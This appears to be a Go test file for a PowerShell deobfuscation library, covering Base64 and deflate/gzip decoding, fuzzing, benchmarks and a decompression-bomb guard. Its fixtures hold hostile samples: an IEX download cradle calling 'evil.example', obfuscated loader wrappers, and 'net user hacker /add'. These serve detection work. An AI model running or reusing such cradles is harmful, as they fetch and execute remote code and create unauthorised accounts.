package deobfuscate

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestPSGetStringBase64(t *testing.T) {
	runTransformTable(t, PSGetStringBase64, []transformCase{
		{"utf8", `iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('` + b64("whoami /all") + `')))`,
			`iex ('whoami /all')`, true},
		{"unicode, short names, double quotes", `[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("` + psB64("Get-Process") + `"))`,
			`'Get-Process'`, true},
		{"ascii, mixed case", `[TEXT.ENCODING]::ascii.getstring([CONVERT]::frombase64string('` + b64("it's") + `'))`,
			`'it''s'`, true},
		{"not base64", `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('@@@@@@@@@@'))`,
			`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('@@@@@@@@@@'))`, false},
		{"benign", `Get-ChildItem C:\Users`, `Get-ChildItem C:\Users`, false},
	})
}

func TestPSFromBase64(t *testing.T) {
	runTransformTable(t, PSFromBase64, []transformCase{
		{"utf16 text", `$b=[System.Convert]::FromBase64String('` + psB64("Start-Process calc") + `')`, `$b='Start-Process calc'`, true},
		{"utf8 text, no prefix", `FromBase64String("` + b64("net user hacker /add") + `")`, `'net user hacker /add'`, true},
		{"binary stays", `[Convert]::FromBase64String('/OiCAAAAYInlMcBki1Aw')`, `[Convert]::FromBase64String('/OiCAAAAYInlMcBki1Aw')`, false},
	})
}

func deflateB64(t testing.TB, s string, gz bool) string {
	var buf bytes.Buffer
	if gz {
		w := gzip.NewWriter(&buf)
		w.Write([]byte(s))
		w.Close()
	} else {
		w, _ := flate.NewWriter(&buf, flate.BestCompression)
		w.Write([]byte(s))
		w.Close()
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func TestPSCompressedBase64(t *testing.T) {
	const payload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p')"
	d, g := deflateB64(t, payload, false), deflateB64(t, payload, true)
	runTransformTable(t, PSCompressedBase64, []transformCase{
		{"deflate inline",
			`IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('` + d + `'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII).ReadToEnd()`,
			`IEX ` + psQuote(payload), true},
		{"gzip via variable",
			`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("` + g + `"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`,
			`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("` + g + `"));IEX ` + psQuote(payload) + `;`, true},
		{"random case",
			`.(NeW-ObjeCt Io.sTreAmrEADER((NEw-OBJecT Io.COMPReSsioN.dEfLatESTrEam([sYsTEM.io.memOrysTReAm] [SYstEm.cOnVeRt]::fROmbAse64sTring( '` + d + `' ) ,[SYStEm.Io.COMpreSsiON.CoMpRESsIONmOde]::DEcOmPreSs )), [TExT.eNCoDing]::asCIi)).ReadToEnd()`,
			`.` + psQuote(payload), true},
		{"corrupt stream", `(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('AAAAAAAAAAAA'),0))).ReadToEnd()`,
			`(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('AAAAAAAAAAAA'),0))).ReadToEnd()`, false},
	})
}

func TestPSCompressedBomb(t *testing.T) {
	bomb := deflateB64(t, strings.Repeat("A", 4*maxTransformOutput), false)
	in := `(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('` + bomb + `'),0))).ReadToEnd()`
	if out, ok := PSCompressedBase64(in); ok || out != in {
		t.Fatalf("a 4 MiB decompression bomb was expanded (%d bytes)", len(out))
	}
}

func FuzzPSGetStringBase64(f *testing.F) {
	fuzzTransform(f, PSGetStringBase64, `[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('`+psB64("dir")+`'))`)
}

func FuzzPSFromBase64(f *testing.F) {
	fuzzTransform(f, PSFromBase64, `FromBase64String('`+b64("whoami /all")+`')`, `FromBase64String('====')`)
}

func FuzzPSCompressedBase64(f *testing.F) {
	d := deflateB64(f, "Write-Host hi", false)
	fuzzTransform(f, PSCompressedBase64, `(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('`+d+`'),0))).ReadToEnd()`)
}

func BenchmarkPSGetStringBase64(b *testing.B) {
	benchTransform(b, PSGetStringBase64, `iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('`+b64("whoami /all")+`')))`)
}

func BenchmarkPSFromBase64(b *testing.B) {
	benchTransform(b, PSFromBase64, `$b=[System.Convert]::FromBase64String('`+psB64("Start-Process calc")+`')`)
}

func BenchmarkPSCompressedBase64(b *testing.B) {
	d := deflateB64(b, "IEX (New-Object Net.WebClient).DownloadString('http://x/p')", false)
	benchTransform(b, PSCompressedBase64, `IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('`+d+`'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII).ReadToEnd()`)
}
